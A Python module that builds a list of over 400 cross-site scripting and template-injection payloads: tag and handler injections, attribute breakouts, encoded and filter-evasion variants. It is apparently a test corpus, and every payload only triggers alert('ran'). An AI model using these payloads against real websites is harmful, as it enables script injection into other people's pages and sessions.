"""Script payloads of the usual families, written out over the ways in which a text can reach a page: 400 and more."""

from __future__ import annotations

RUN = "alert('ran')"
ENTITY = "".join(f"&#{ord(letter)};" for letter in RUN)
TAGS = ("img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open", "iframe", "object data=x", "marquee",
        "select autofocus", "textarea autofocus", "a href=x tabindex=1", "style", "math", "form", "table background=x", "isindex", "embed src=x", "math href=x")  # fmt: skip
HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onstart", "onpageshow", "onanimationstart")
BREAKS = ("", "\">", "'>", "</textarea>", "</title>", "</script>", "--><!-- -->", "]]>", "</style>", "</a>", "`>", "</q></p>")  # fmt: skip
WHOLE = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src=data:,{RUN}></script>",
    f"<script\x0c>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>",
    f"<iframe src=\"javascript:{RUN}\"></iframe>",
    f"<a href=\"javascript:{RUN}\">x</a>",
    f"<a href=\" &#14; javascript:{RUN}\">x</a>",
    f"<a href=\"java\tscript:{RUN}\">x</a>",
    f"<object data=\"javascript:{RUN}\"></object>",
    f"<embed src=\"javascript:{RUN}\">",
    f"<form action=\"javascript:{RUN}\"><button>x</button></form>",
    f"<button formaction=\"javascript:{RUN}\" form=f>x</button>",
    f"<meta http-equiv=refresh content=\"0;url=javascript:{RUN}\">",
    f"<base href=\"javascript:{RUN}//\">",
    f"<link rel=stylesheet href=\"javascript:{RUN}\">",
    f"<style>@import 'javascript:{RUN}';</style>",
    f"<div style=\"background:url(javascript:{RUN})\">x</div>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<template><script>{RUN}</script></template>",
    f"<img src=\"x\" onerror=\"{ENTITY}\">",
    f"<img src=x:x onerror={RUN}//",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror\n=\n{RUN}>",
    f"\" autofocus onfocus={RUN} x=\"",
    f"' autofocus onfocus={RUN} x='",
    f"\" style=animation-name:x onanimationstart={RUN} x=\"",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f"<svg><set attributeName=href to=javascript:{RUN}></svg>",
    f"<svg><a xlink:href=\"javascript:{RUN}\"><text>x</text></a></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id=x onload={RUN}/>#x\"/></svg>",
    f"<input type=image src=x onerror={RUN}>",
    f"<p hidden onbeforematch={RUN}>x</p>",
    f"<x contenteditable onblur={RUN} onkeyup={RUN}>x</x>",
    f"<body onhashchange={RUN}><a href=#x>x</a>",
    f"<frameset onload={RUN}>",
    f"<dialog open onclose={RUN}><form method=dialog><button>x</button></form></dialog>",
    f"<portal src=\"javascript:{RUN}\">",
    "{{7*7}}{% raw %}",
    "{{constructor.constructor(\"alert('ran')\")()}}",
    "${alert('ran')}",
    "<%= 7*7 %>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\u202e<script>{RUN}</script>",
    f"<script>/*\u2028*/{RUN}</script>",
    f"<hx hx-on:load=\"{RUN}\" hx-get=\"/\" hx-trigger=load>",
)  # fmt: skip
PAYLOADS = tuple(
    dict.fromkeys(
        [
            *WHOLE,
            *(
                f"{BREAKS[(row + column) % len(BREAKS)]}<{tag} {handler}={RUN}>"
                for row, tag in enumerate(TAGS)
                for column, handler in enumerate(HANDLERS)
            ),
            *(f'{escape}<img src=x {handler}="{RUN}">' for escape in BREAKS for handler in HANDLERS),
            *(f"{escape}<script>{RUN}</script>" for escape in BREAKS[1:]),
            *(f'" {handler}="{RUN}' for handler in HANDLERS),
            *(f"' {handler}='{RUN}" for handler in HANDLERS),
            *(f"<{tag}><script>{RUN}</script></{tag.split()[0]}>" for tag in TAGS),
            *(f"<{tag.upper()} {HANDLERS[0]}={ENTITY}>" for tag in TAGS),
            *(f"{escape}<svg/onload={RUN}>" for escape in BREAKS),
            *(f"{escape}<iframe srcdoc='&lt;script&gt;parent.{RUN}&lt;/script&gt;'>" for escape in BREAKS),
        ]
    )
)
